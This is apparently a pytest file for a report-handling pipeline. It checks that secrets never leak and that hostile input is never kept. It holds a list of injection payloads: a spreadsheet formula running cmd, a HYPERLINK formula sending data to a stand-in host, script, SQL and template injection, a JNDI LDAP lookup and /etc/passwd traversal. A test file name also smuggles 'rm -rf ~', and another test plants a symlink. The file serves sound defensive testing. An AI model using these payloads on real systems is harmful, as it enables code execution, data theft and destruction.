"""What is planted in reports, and what their senders may plant in them, from import to purge."""

import csv
import json
import os
import pty
import re
import subprocess
import sys

import pytest

from pipeline.reports.formats import FORMATS
from pipeline.reports.htcds import INDUSTRIES, SIGNS
from pipeline.reports.record import Reason
from pipeline.reports.source import Channel
from tests.pipeline.reports.desk import PERIOD, Desk
from tests.pipeline.reports.exports import EXPORTS, LAT, LON, NAME, PHONE, STORY, table
from tiles.errors import KilnlightError, ReportError

HEADER = ["id", "consent", "phone", "name", "lat", "lon", "month", "industry", "story"]
COUNTRY = 'default_country = "IN"\n'


@pytest.fixture
def desk(tmp_path):
    return Desk(tmp_path)


def planted(rows=37):
    """Rows of all fates with strings found nowhere else, and those strings."""
    lines, secrets = [], {STORY, NAME}
    fates = ({}, {1: "refused-by-her"}, {6: "2019-08"}, {7: "secret-trade"}, {5: "178.98765"})
    for n in range(rows):
        phone, lat, lon = f"98123{n:05d}", f"28.{n:03d}7391", f"77.{n:03d}8264"
        line = [f"token-{n}", "yes", phone, NAME, lat, lon, "2026-02", "C_Manufacturing", STORY]
        for at, value in fates[n % len(fates)].items():
            line[at] = value
            secrets.add(value)
        lines.append(line)
        secrets |= {phone, f"+91{phone}", lat[:8], lon[:8], f"token-{n}"}
    return lines, secrets - {"2019-08"}


def kilnlight(*arguments, stdin="", temporary=None, terminal=False):
    """Run the real command; return (exit code, all that it said)."""
    code = "from pipeline.cli import main; main()"
    command = [sys.executable, "-c", code, *map(str, arguments)]
    environment = os.environ | ({"TMPDIR": str(temporary)} if temporary else {})
    if not terminal:
        done = subprocess.run(
            command, input=stdin, capture_output=True, text=True, env=environment, timeout=120
        )
        return done.returncode, done.stdout + done.stderr
    ours, theirs = pty.openpty()
    with subprocess.Popen(
        command, stdin=subprocess.PIPE, stdout=theirs, stderr=theirs, env=environment, text=True
    ) as process:
        os.close(theirs)
        process.stdin.write(stdin)
        process.stdin.close()
        said = b""
        while chunk := _read(ours):
            said += chunk
    os.close(ours)
    return process.returncode, said.decode()


def _read(terminal):
    try:
        return os.read(terminal, 4096)
    except OSError:  # the other side was closed
        return b""


def everything_but_the_input(folder, *inputs):
    return {
        path: path.read_bytes().decode("latin-1")
        for path in folder.rglob("*")
        if path.is_file() and path not in inputs
    }


def test_nothing_planted_is_said_or_left_anywhere(desk):
    lines, secrets = planted()
    export, source = desk.file(table(HEADER, *lines)), desk.source(COUNTRY)
    temporary = desk.folder / "tmp"
    temporary.mkdir()
    at = ("--store", desk.store, "--keys", desk.keys)
    period = ("--period", str(PERIOD))
    one = ("--source", source)
    said = [
        kilnlight("reports", "import", export, "--as", "plain-csv", *at, *period, *one,
                  temporary=temporary),
        kilnlight("reports", "withdraw", *at, *one, "--by", "phone", stdin="98123 00000\n",
                  temporary=temporary),
        kilnlight("reports", "close", *at, *period, temporary=temporary),
        kilnlight("reports", "purge", *at, "--older-than", "2026-03", temporary=temporary),
    ]  # fmt: skip
    assert [code for code, _ in said] == [0] * 4, said
    told = "\n".join(text for _, text in said)
    assert not list(temporary.iterdir())
    files = everything_but_the_input(desk.folder, export)
    assert {path.name for path in files} == {"reports.age", "identity.txt", "helpline.toml"}
    for secret in secrets:
        assert secret not in told, secret
        assert not any(secret in f"{path}{content}" for path, content in files.items()), secret
    assert not re.search(r"(?<![\w-])(7|8|15|22|37)(?![\w-])", told)  # tallies of the fates


def test_tallies_are_shown_on_a_terminal_and_nowhere_else(desk):
    lines, secrets = planted()
    export, source = desk.file(table(HEADER, *lines)), desk.source(COUNTRY)
    at = ("--store", desk.store, "--keys", desk.keys, "--period", str(PERIOD))
    code, said = kilnlight(
        "reports", "import", export, "--as", "plain-csv", *at, "--source", source, terminal=True
    )
    assert code == 0
    assert "Taken: 15, of which 0 name nobody." in said
    assert "Refused: 8, consent is not given." in said
    code, said = kilnlight("reports", "review", *at, terminal=True)
    assert "Reports kept: 15." in said
    assert not any(secret in said for secret in secrets)
    code, said = kilnlight("reports", "review", *at)
    assert (code, "for a terminal only" in said, "15" in said) == (2, True, False)
    code, said = kilnlight("reports", "review", *at, "--recorded")
    assert (code, "Reports kept: 15." in said) == (0, True)


def test_withdrawal_says_how_many_on_a_terminal_and_takes_no_value_as_an_argument(desk):
    lines, _ = planted()
    desk.bring(desk.file(table(HEADER, *lines)), source=desk.source(COUNTRY), format="plain-csv")
    at = ("--store", desk.store, "--keys", desk.keys, "--by", "phone")
    code, said = kilnlight("reports", "withdraw", *at, stdin="+91 98123 00000\n", terminal=True)
    assert (code, "Reports taken out: 1." in said) == (0, True)
    code, said = kilnlight("reports", "withdraw", *at, "+919812300000")
    assert code == 2
    code, said = kilnlight("reports", "withdraw", *at, stdin="98123 00005\n")
    assert (code, "default_country" in said, "98123" in said) == (2, True, False)


def spoiled(content, suffix):
    text = content.decode()
    yield text[: len(text) // 2]
    yield text.replace(PHONE, f'{PHONE}"')
    yield text.replace(STORY, f"{STORY}\udc80")
    yield text.replace(LAT, f"{LAT},{LON}")
    yield "\n".join(text.splitlines()[1:])
    yield text.replace('"', "'")
    yield text + STORY
    if suffix == ".csv":
        yield text.replace(",", ";", 3)


@pytest.mark.parametrize("name", EXPORTS)
def test_no_error_in_any_format_quotes_a_report(desk, name):
    export = EXPORTS[name]
    source = desk.source(COUNTRY.replace("IN", "US") + export.settings)
    for number, text in enumerate(spoiled(export.content, export.suffix)):
        path = desk.file(text.encode("utf-8", "surrogateescape"), f"{number}{export.suffix}")
        for form in ("auto", export.format):
            told = _told(desk, path, source, form)
            for secret in (PHONE, "98123", STORY, "Asha", NAME, LAT, LON, "river"):
                assert secret not in told


def _told(desk, path, source, form):
    try:
        summary = desk.bring(path, source=source, format=form)
    except KilnlightError as error:
        told, seen = "", error
        while seen is not None:
            told += f"{seen}{seen.args!r}"
            seen = seen.__cause__ or seen.__context__
        return told.replace(str(path), "")
    return repr(summary)


HOSTILE = [
    "=cmd|'/C calc'!A0",
    '+HYPERLINK("http://x/?"&A1)',
    "@SUM(1+1)*cmd",
    "<script>alert(1)</script>",
    "'; DROP TABLE reports;--",
    "../../../../etc/passwd",
    "${jndi:ldap://x}",
    "{{7*7}}",
    "\x1b]0;owned\x07",
    "\u202egnp.exe",
    "a\x00b",
    "%s%n%n",
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
]
DEEP = json.loads("[" * 900 + "]" * 900)
WORD = re.compile(r"[a-z0-9_-]+|[0-9a-f]{32}|[0-9a-f]{64}|\d{4}-\d\d(/\d{4}-\d\d)?|")


@pytest.mark.parametrize("form", [form.name for form in FORMATS if not form.is_json])
def test_nothing_hostile_is_kept_whatever_field_it_stands_in(desk, form):
    export = next(one for one in EXPORTS.values() if one.format == form)
    lines = [line for line in export.content.decode().splitlines() if not line.startswith("#meta")]
    between = ";" if ";" in lines[0] else ","
    header, fields = csv.reader(lines[:2], delimiter=between)
    rows = [
        [*fields[:at], hostile, *fields[at + 1 :]]
        for at in range(len(fields))
        for hostile in HOSTILE
    ]
    path = desk.file(table(header, *rows, delimiter=between))
    summary = desk.bring(path, source=desk.source(COUNTRY + export.settings), format=form)
    assert summary.accepted
    check_kept(desk)


@pytest.mark.parametrize("form", [form.name for form in FORMATS if form.is_json])
def test_nothing_hostile_in_json_is_kept_either(desk, form):
    export = next(one for one in EXPORTS.values() if one.format == form)
    whole = json.loads(export.content)
    (name,) = [name for name, value in whole.items() if isinstance(value, list)]
    (record,) = whole[name]
    records = [record]
    for hostile in [
        *HOSTILE,
        [],
        {},
        [[]],
        {"type": "Point"},
        {"value": {"value": []}},
        1e308,
        None,
    ]:
        records += [{**record, key: hostile} for key in record]
    path = desk.file(json.dumps({name: records}).encode(), "x.json")
    summary = desk.bring(path, source=desk.source(COUNTRY + export.settings), format=form)
    assert summary.accepted
    check_kept(desk)


def check_kept(desk):
    """Every word of every kept line is a code, a digest, a month, a number or a settings' word."""
    known = {*INDUSTRIES, *SIGNS, *map(str, Reason), *Channel.__args__}
    for line in desk.lines():
        ((kind, values),) = line.items()
        if kind == "basis":
            continue
        for value in values.values():
            for one in value if isinstance(value, list) else [value]:
                assert isinstance(one, (int, float, type(None))) or (
                    one in known or WORD.fullmatch(one)
                ), f"{kind} keeps {one!r}"


def test_ten_megabytes_in_a_field_cost_its_row_and_no_other(desk):
    huge = "9" * 10_000_000
    good = ["1", "yes", "98123 45670", NAME, LAT, LON, "2026-02", "C_Manufacturing", STORY]
    rows = [good, *[[*good[:at], huge, *good[at + 1 :]] for at in (0, 2, 4, 6, 7, 8)]]
    rows[-1][0] = "2"  # the story may be as long as it likes
    summary = desk.bring(
        desk.file(table(HEADER, *rows)), source=desk.source(COUNTRY), format="plain-csv"
    )
    assert (summary.accepted, summary.refused) == (2, {Reason.TOO_LONG: 5})
    kept = sum(len(json.dumps(line)) for line in desk.lines())
    assert kept < 5_000


def test_a_planted_link_is_not_followed(desk):
    desk.store.parent.mkdir()
    victim = desk.folder / "victim"
    victim.write_text("precious")
    (desk.store.parent / f".reports.{os.getpid()}.part.age").symlink_to(victim)
    good = ["1", "yes", "98123 45670", NAME, LAT, LON, "2026-02", "C_Manufacturing", STORY]
    desk.bring(desk.file(table(HEADER, good)), source=desk.source(COUNTRY), format="plain-csv")
    assert victim.read_text() == "precious"
    assert [one.name for one in desk.store.parent.iterdir()] == ["reports.age"]


def test_a_name_with_path_tricks_and_escapes_is_only_a_name(desk):
    folder = desk.folder / "in"
    folder.mkdir()
    path = folder / "..\\..\\\x1b[31mx;rm -rf ~.csv"
    path.write_bytes(b"id\n1\n")
    with pytest.raises(ReportError) as caught:
        desk.bring(path, format="plain-csv")
    assert "\x1b" not in str(caught.value)
    assert not desk.store.exists()
